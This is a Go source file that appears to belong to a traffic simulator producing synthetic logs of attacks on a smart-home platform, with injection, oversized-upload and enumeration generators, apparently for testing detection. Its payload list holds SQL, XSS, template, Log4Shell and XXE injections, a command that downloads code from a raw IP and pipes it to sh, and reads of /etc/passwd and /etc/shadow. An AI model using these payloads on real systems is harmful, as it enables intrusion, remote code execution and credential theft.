package main

import (
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

var payloads = []string{
	"' OR '1'='1", "1' UNION SELECT serial,token FROM devices--", "1;SELECT pg_sleep(5)--", `{"$ne":null}`, `{"$gt":""}`,
	"<script>alert(document.cookie)</script>", `"><svg/onload=alert(1)>`, "{{7*7}}", "${7*7}", "#{7*7}",
	"${jndi:ldap://x.oast.fun/a}", "; cat /etc/passwd", "| id", "`wget http://45.9.1.3/m -O- | sh`", "$(reboot)",
	"../../../../etc/shadow", "*)(uid=*))(|(uid=*", "1 AND SLEEP(5)", "admin'--", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
}

// rawQuery is what a tool that sends payloads nearly raw still escapes.
var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23")

// injection sends payloads in query values (raw, URL-encoded once or
// twice): inside a signed-in app session, through the public API with a
// key, dressed as a camera checking for firmware, or in a clip id.
func (d *day) injection(r *rand.Rand) {
	a, b := d.span(r, 60, 500)
	var w who
	var at func(p string) string
	rate := 1 / Uniform(r, 2, 12)
	switch d.variant(r, 3) {
	case 0:
		w = d.fakeApp(r, d.attacker(r, "injection", Pick(r, []int{fromHome, fromHome6})))
		a = d.signIn(r, w, a)
		hid := Pick(r, d.s.homes).id
		at = func(p string) string { return "/app/v5/homes/" + hid + "/activity?limit=50&type=" + p }
	case 1:
		w = who{c: d.attacker(r, "injection", fromHosting), ua: "python-requests/2.32.3", key: "lk_live_" + Hex(r, 16) + Hex(r, 4), hdr: 30}
		rate = Uniform(r, 0.5, 3)
		at = func(p string) string { return "/api/v1/devices?name=" + p + "&limit=20" }
	case 2:
		dv := d.someDevice(r, "camera", "hub")
		w = d.deviceWho(d.attacker(r, "injection", fromHome6), dv)
		at = func(p string) string { return "/firmware/v3/" + dv.m.code + "/manifest?current=" + p }
	default:
		w = d.fakeApp(r, d.attacker(r, "injection", fromMobile6))
		a = d.signIn(r, w, a)
		at = func(p string) string { return "/media/v2/clips/" + url.PathEscape(p) + "/index.m3u8" }
	}
	w.attack = true
	Poisson(r, rate, a, b, func(t int64) {
		p := EncodeQuery(r, Pick(r, payloads), rawQuery, 0.25, 0.7)
		code := status(r, 400, alt{200, 0.35}, alt{500, 0.1}, alt{403, 0.05})
		d.send(w, t, hit{"GET", at(p), code, 0, size(r, 300, 0.6), lat(r, 30)})
	})
}

// upload sends bodies of 5 to 60 MB a few times a minute where a few
// hundred kilobytes are usual, or where legitimate parts stay under 5
// MB: as a camera's clip parts, as device diagnostics, as an app avatar,
// or as webhook deliveries. The gateway refuses those over 50 MB.
func (d *day) upload(r *rand.Rand) {
	a, b := d.span(r, 90, 600)
	var w who
	method, code := "POST", 202
	var path func(n int) string
	switch d.variant(r, 4) {
	case 0:
		w = d.deviceWho(d.attacker(r, "upload", fromHome), d.someDevice(r, "camera"))
		id := "c" + Hex(r, 12)
		method, code = "PUT", 200
		path = func(n int) string { return "/media/v2/clips/" + id + "/parts/" + itoa(n) }
	case 1:
		w = d.deviceWho(d.attacker(r, "upload", Pick(r, []int{fromHome, fromHome6})), d.someDevice(r, "hub", "camera"))
		path = func(int) string { return "/device/v3/diagnostics" }
	case 2:
		w = d.fakeApp(r, d.attacker(r, "upload", fromMobile6))
		a = d.signIn(r, w, a)
		method, code = "PUT", 200
		path = func(int) string { return "/app/v5/me/avatar" }
	default:
		w = who{c: d.attacker(r, "upload", fromHosting), ua: "PushRelay-Webhooks/1.0"}
		code = 401
		path = func(int) string { return "/hooks/v1/push/receipts" }
	}
	w.attack = true
	speed := LogUniform(r, 20, 200)
	for n, t := 1, a; t < b; n++ {
		body := LogUniform(r, 5, 60)
		c := code
		if body > 50 {
			c = 413
		}
		end := d.send(w, t, hit{method, path(n), c, int64(body * mb), 80, transfer(r, body, speed)})
		t = max(end, t+Sec(Uniform(r, 10, 30)))
	}
}

// enumeration walks identifiers: consecutive device serials through the
// public API, account numbers inside a signed-in session (most refused,
// some answered), invitation codes, or the public warranty lookup, slowly,
// from a home IPv6 address.
func (d *day) enumeration(r *rand.Rand) {
	a, b := d.span(r, 90, 700)
	var w who
	var next func(i int) hit
	rate := Uniform(r, 0.5, 4)
	switch d.variant(r, 5) {
	case 0:
		w = who{c: d.attacker(r, "enumeration", Pick(r, []int{fromHosting, fromCloud})), ua: Pick(r, []string{"Go-http-client/2.0", "python-httpx/0.28.1"}),
			key: "lk_live_" + Hex(r, 16) + Hex(r, 4), hdr: 30}
		walk := serialWalk(d.someDevice(r, "camera", "lock", "thermostat").serial)
		next = func(i int) hit {
			sn := walk(i)
			return hit{"GET", "/api/v1/devices/" + sn + "/state", d.exists(sn, 403, 404), 0, 70, lat(r, 12)}
		}
	case 1:
		w = d.fakeApp(r, d.attacker(r, "enumeration", fromHome))
		a = d.signIn(r, w, a)
		start, _ := strconv.Atoi(userID(r))
		rate = Uniform(r, 0.3, 2)
		next = func(i int) hit {
			return hit{"GET", "/app/v5/users/" + itoa(start+i) + "/profile", status(r, 403, alt{200, 0.08}, alt{404, 0.1}), 0, 160, lat(r, 20)}
		}
	case 2:
		w = d.fakeApp(r, d.attacker(r, "enumeration", fromMobile6))
		next = func(int) hit {
			return hit{"GET", "/app/v5/invites/" + strings.ToUpper(Hex(r, 8)), status(r, 404, alt{200, 0.004}), 0, 90, lat(r, 10)}
		}
	default:
		w = who{c: d.attacker(r, "enumeration", fromHome6), ua: Pick(r, agentBrowsers)}
		walk := serialWalk(d.someDevice(r, "camera", "doorbell").serial)
		rate = 1 / Uniform(r, 3, 10)
		next = func(i int) hit {
			sn := walk(i)
			return hit{"GET", "/support/v1/warranty?serial=" + sn, d.exists(sn, 200, 404), 0, 240, lat(r, 35)}
		}
	}
	w.attack = true
	i := 0
	Poisson(r, rate, a, b, func(t int64) {
		d.send(w, t, next(i))
		i++
	})
}
